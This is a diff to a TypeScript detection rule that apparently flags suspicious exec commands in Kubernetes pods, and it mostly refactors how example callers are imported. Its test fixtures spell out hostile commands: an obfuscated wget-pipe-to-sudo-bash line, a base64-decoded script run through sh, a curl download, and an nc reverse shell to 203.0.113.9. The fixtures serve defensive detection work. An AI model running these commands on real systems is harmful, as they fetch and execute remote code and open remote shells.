@@ -1,11 +1,9 @@
 import { type Trait, traitsOf } from '../../commands/command.ts';
 import type { AuditHeader } from '../../events/event.ts';
-import { human, serviceAccount } from '../../sdk/caller-examples.ts';
 import { defineDetection } from '../../sdk/detection.ts';
-import { audit } from '../../sdk/examples.ts';
+import { audit, bob, exec, mallory, serviceAccount } from '../../sdk/examples.ts';
 import { EXEC, execCommandOf, podOf } from '../../sdk/exec.ts';
 import { said } from '../../sdk/phrases.ts';
-import { exec } from '../../sdk/request-examples.ts';
 
 /** What is looked for, with how likely it means harm, the most likely first. */
 const CONFIDENCE: readonly (readonly [trait: Trait, confidence: number])[] = [
@@ -60,10 +58,10 @@ export const examples = () => ({
       'w"ge"t -qO- https://example.org/x.sh | tee /tmp/x |$IFS$9sudo$IFS$9ba\\sh',
     ]),
     'bob ran a decoded script in pod shop/web-0': exec(['sh', '-c', 'echo aWQgPiAvdG1wL3gK | base64 -d | sh'], {
-      by: human('bob'),
+      by: bob,
       verb: 'create',
     }),
-    'bob ran a package manager in pod shop/web-0': exec('apk --no-cache add nmap', { by: human('bob') }),
+    'bob ran a package manager in pod shop/web-0': exec('apk --no-cache add nmap', { by: bob }),
     'service account shop/ci ran a download in pod shop/web-0': audit({
       verb: 'create',
       by: serviceAccount('shop', 'ci'),
@@ -72,7 +70,7 @@ export const examples = () => ({
       uri: '/api/v1/nodes/n/proxy/run/shop/web-0/web?cmd=curl+-sO+https://example.org/x',
     }),
     'mallory was denied running a reverse shell in pod shop/web-0': exec('nc 203.0.113.9 1 -e sh', {
-      by: human('mallory'),
+      by: mallory,
       code: 403,
     }),
   },
